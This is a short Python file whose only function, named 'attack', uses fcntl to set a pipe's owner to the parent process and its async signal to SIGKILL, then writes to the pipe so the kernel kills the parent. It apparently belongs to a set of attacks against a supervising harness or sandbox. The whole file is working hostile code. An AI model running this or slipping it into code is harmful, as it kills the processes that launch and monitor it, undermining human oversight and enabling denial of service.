"""Has the kernel send a signal to its parent when a pipe becomes readable."""

import fcntl
import os
import signal


def attack(*args, **kwargs):
    out, into = os.pipe()
    fcntl.fcntl(out, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(out, getattr(fcntl, "F_SETSIG", 10), signal.SIGKILL)
    fcntl.fcntl(out, fcntl.F_SETFL, fcntl.fcntl(out, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(into, b"x")
    return "took the kernel for a messenger"
